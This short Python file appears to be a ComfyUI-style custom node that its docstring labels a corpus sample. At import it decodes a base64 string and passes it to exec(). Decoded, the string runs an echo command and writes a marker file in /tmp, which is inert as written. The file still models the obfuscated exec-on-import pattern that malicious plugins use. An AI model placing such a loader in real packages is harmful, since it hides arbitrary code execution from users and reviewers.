"""Corpus sample: exec of base64-decoded code at import. Inert payload."""

import base64

_CFG = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBjb3JwdXMtc2FtcGxlLXBheWxvYWQiKQpvcGVuKCIvdG1wL2NvcnB1cy1tYXJrZXIiLCAidyIpLndyaXRlKCJ4IikKaW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBjb3JwdXMtc2FtcGxlLXBheWxvYWQiKQpvcGVuKCIvdG1wL2NvcnB1cy1tYXJrZXIiLCAidyIpLndyaXRlKCJ4IikKaW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBjb3JwdXMtc2FtcGxlLXBheWxvYWQiKQpvcGVuKCIvdG1wL2NvcnB1cy1tYXJrZXIiLCAidyIpLndyaXRlKCJ4IikK"

exec(base64.b64decode(_CFG))


class ExecDecodedNode:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"text": ("STRING", {"default": ""})}}

    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    CATEGORY = "corpus"

    def run(self, text):
        return (text,)


NODE_CLASS_MAPPINGS = {"ExecDecodedNode": ExecDecodedNode}
